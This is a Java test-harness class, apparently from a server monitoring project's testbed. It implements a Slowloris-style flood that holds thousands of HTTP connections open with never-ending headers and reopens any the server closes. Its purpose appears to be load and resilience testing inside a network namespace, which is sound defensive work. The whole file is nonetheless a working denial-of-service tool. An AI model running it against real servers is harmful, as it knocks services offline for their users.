package io.wgmon.testbed;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;

/**
 * An attacker's process for connection floods: holds up to COUNT connections to HOST:PORT, each
 * with a request whose headers never end, and opens a new one whenever the server closes one, for
 * SECONDS. A process of its own because a process here may hold at most 20,000 descriptors; run
 * it with `ip netns exec NS java -cp TEST_CLASSES io.wgmon.testbed.HalfOpenSender HOST PORT COUNT SECONDS`.
 * Prints a status line a second and a last line starting with FINAL:
 * {@code open=... peak=... opened=... closedByServer=... failed=...}.
 */
public final class HalfOpenSender {
    private static final byte[] HALF_SENT = "GET / HTTP/1.1\r\nHost: x\r\nX: ".getBytes(StandardCharsets.US_ASCII);
    private static final int CONNECT_TIMEOUT_MS = 1000;
    /** New connections per round before looking for closed ones again. */
    private static final int BATCH = 500;

    private final InetSocketAddress target;
    private final int count;
    private final Selector selector;
    private final ByteBuffer sink = ByteBuffer.allocate(4096);
    private int open;
    private int peak;
    private long opened;
    private long closedByServer;
    private long failed;

    private HalfOpenSender(InetSocketAddress target, int count, Selector selector) {
        this.target = target;
        this.count = count;
        this.selector = selector;
    }

    public static void main(String[] args) throws IOException {
        InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
        long seconds = Long.parseLong(args[3]);
        try (Selector selector = Selector.open()) {
            HalfOpenSender sender = new HalfOpenSender(target, Integer.parseInt(args[2]), selector);
            sender.run(System.nanoTime() + seconds * 1_000_000_000L);
            System.out.println("FINAL " + sender.status());
            System.out.flush();
        }
    }

    private void run(long end) throws IOException {
        long nextReport = System.nanoTime() + 1_000_000_000L;
        while (System.nanoTime() < end) {
            for (int i = 0; i < BATCH && open < count; i++) {
                openOne();
            }
            selector.select(open < count ? 1 : 100);
            for (SelectionKey key : selector.selectedKeys()) {
                drain(key);
            }
            selector.selectedKeys().clear();
            if (System.nanoTime() >= nextReport) {
                System.out.println(status());
                System.out.flush();
                nextReport += 1_000_000_000L;
            }
        }
        for (SelectionKey key : selector.keys()) {
            key.channel().close();
        }
    }

    private void openOne() {
        SocketChannel channel = null;
        try {
            channel = SocketChannel.open();
            channel.socket().connect(target, CONNECT_TIMEOUT_MS);
            channel.write(ByteBuffer.wrap(HALF_SENT));
            channel.configureBlocking(false);
            channel.register(selector, SelectionKey.OP_READ);
            opened++;
            open++;
            peak = Math.max(peak, open);
        } catch (IOException e) {
            failed++;
            closeQuietly(channel);
        }
    }

    /** Whatever the server sends is read and dropped; its end of the connection makes room for a new one. */
    private void drain(SelectionKey key) {
        SocketChannel channel = (SocketChannel) key.channel();
        int read;
        try {
            sink.clear();
            read = channel.read(sink);
        } catch (IOException reset) {
            read = -1;
        }
        if (read < 0) {
            key.cancel();
            closeQuietly(channel);
            closedByServer++;
            open--;
        }
    }

    private String status() {
        return "open=" + open + " peak=" + peak + " opened=" + opened + " closedByServer=" + closedByServer
                + " failed=" + failed;
    }

    private static void closeQuietly(SocketChannel channel) {
        if (channel != null) {
            try {
                channel.close();
            } catch (IOException ignored) {
                // already gone
            }
        }
    }
}
